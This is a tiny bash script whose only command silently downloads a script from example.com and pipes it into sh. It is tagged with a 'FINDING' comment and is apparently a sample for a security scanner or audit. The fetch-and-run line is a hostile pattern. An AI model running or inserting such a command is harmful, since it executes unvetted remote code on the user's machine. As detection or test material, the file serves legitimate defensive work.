#!/bin/bash
bash -c 'curl -s https://example.com/x | sh'  # FINDING
